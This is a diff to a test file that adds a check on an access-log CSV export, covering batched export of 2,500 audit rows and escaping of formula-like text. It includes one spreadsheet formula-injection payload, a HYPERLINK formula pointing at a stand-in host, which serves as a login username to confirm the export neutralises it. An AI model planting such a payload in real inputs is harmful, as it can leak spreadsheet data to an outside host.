@@ -95,4 +95,24 @@ describe('the access log', () => {
     // Actions and entities by their Italian names, as the page shows them.
     expect(lines.find((line) => line.includes(';cm.navile;'))).toContain(';Lettura;Ricerca di persone;');
   });
+
+  it('exports every matching row in batches, newest first, and writes texts that look like formulas as text', async () => {
+    const insert = ctx.db.$client.prepare("INSERT INTO audit_log (at, username, action, entity, ip) VALUES (?, 'bulk', 'read', 'person_search', '10.0.0.1')");
+    ctx.db.$client.transaction(() => {
+      for (let i = 0; i < 2_500; i++) insert.run(`2026-01-01T00:00:${String(i % 60).padStart(2, '0')}Z`);
+    })();
+    await ctx.app.inject({ method: 'POST', url: '/api/auth/login', headers: { 'content-type': 'application/json' }, payload: { username: '=HYPERLINK("http://x.example/?"&A1)', password: 'nope' } });
+    const admin = await ctx.as('admin');
+    const csv = await admin({ method: 'GET', url: '/api/audit?format=csv' });
+    expect(csv.statusCode).toBe(200);
+    const lines = csv.body.split('\r\n').slice(1).filter(Boolean);
+    const expected = ctx.db.$client.prepare('SELECT id FROM audit_log WHERE action != ? ORDER BY id DESC').pluck().all('export') as number[];
+    const ids = lines.map((line) => Number(line.split(';')[0]));
+    // Every row but the export's own, each once, newest first, across three batches of 1,000.
+    expect(ids.length).toBeGreaterThan(2_500);
+    expect(ids).toEqual(expected);
+    const failed = lines.find((line) => line.includes('HYPERLINK'));
+    expect(failed).toContain(`;"'=HYPERLINK(""http://x.example/?""&A1)";`);
+  });
 });
+
